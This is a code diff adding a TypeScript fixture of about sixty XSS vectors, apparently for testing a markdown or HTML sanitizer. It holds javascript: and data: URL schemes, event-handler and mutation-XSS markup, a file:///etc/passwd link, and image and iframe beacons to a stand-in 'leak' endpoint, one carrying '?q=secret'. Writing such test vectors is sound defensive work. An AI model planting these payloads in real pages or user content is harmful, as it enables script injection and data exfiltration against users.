@@ -1,0 +1,77 @@
+// Sixty texts that would like to run, to load, to lead away or to hide something.
+const away = 'http://127.0.0.1:9/leak'
+
+const schemes = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\tscript:alert(1)',
+  '&#106;avascript:alert(1)',
+  'javascript&colon;alert(1)',
+  '\u0001javascript:alert(1)',
+  'vbscript:msgbox(1)',
+  'data:text/html,<script>hit()</script>',
+  'data:image/svg+xml,<svg onload=hit()>',
+  'blob:http://127.0.0.1/x',
+  'file:///etc/passwd',
+  'about:blank',
+  'ftp://127.0.0.1/x',
+  '/api/runs',
+  '#top',
+  '//127.0.0.1:9/x',
+  'view-source:http://a.example',
+  'ws://127.0.0.1:9/',
+]
+
+const elements = [
+  '<script>window.hit = 1</script>',
+  '<script src="/evil.js"></script>',
+  `<img src="${away}">`,
+  '<img src=x onerror="window.hit = 1">',
+  '<svg onload="window.hit = 1"></svg>',
+  '<svg><script>window.hit = 1</script></svg>',
+  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
+  `<iframe src="${away}"></iframe>`,
+  `<object data="${away}"></object>`,
+  `<embed src="${away}">`,
+  `<link rel="stylesheet" href="${away}">`,
+  `<meta http-equiv="refresh" content="0;url=${away}">`,
+  `<base href="${away}/">`,
+  `<style>@import "${away}"; * { display: none }</style>`,
+  `<div style="position: fixed; inset: 0; background: url(${away})">x</div>`,
+  '<a href="javascript:window.hit = 1">x</a>',
+  '<form action="javascript:window.hit = 1"><button>x</button></form>',
+  '<input autofocus onfocus="window.hit = 1">',
+  '<details open ontoggle="window.hit = 1">x</details>',
+  `<video src="${away}" autoplay></video>`,
+  `<audio src="${away}" autoplay></audio>`,
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.hit = 1">',
+  '<template><img src=x onerror="window.hit = 1"></template>',
+  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
+  '<!--><img src=x onerror="window.hit = 1">-->',
+  '<![CDATA[<img src=x onerror="window.hit = 1">]]>',
+  '<x-y id="hot" name="hot" onclick="window.hit = 1">x</x-y>',
+]
+
+const markdown = [
+  `![pixel](${away}?q=secret)`,
+  `![a](data:text/html,<script>hit()</script>)`,
+  `[![in](${away})](javascript:alert(1))`,
+  `![x][far]\n\n[far]: ${away}`,
+  '[x][js]\n\n[js]: javascript:alert(1)',
+  '[x](javascript:alert(1) "title\\" onmouseover=\\"window.hit = 1")',
+  '[x](http://a.example/" onmouseover="window.hit = 1)',
+  '<javascript:alert(1)>',
+  '```"onload="window.hit = 1\n</code></pre><script>window.hit = 1</script>\n```',
+  '```html\n<img src=x onerror="window.hit = 1">\n```',
+  '| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit = 1</script> |',
+  '`<script>window.hit = 1</script>`',
+  '&lt;script&gt;window.hit = 1&lt;/script&gt;',
+  `${'> '.repeat(3_000)}deep`,
+  `${'*a '.repeat(300)}${'['.repeat(300)}`,
+]
+
+export const vectors: readonly string[] = [
+  ...schemes.map((href) => `[click](<${href}>) and [again](${href})`),
+  ...elements,
+  ...markdown,
+]
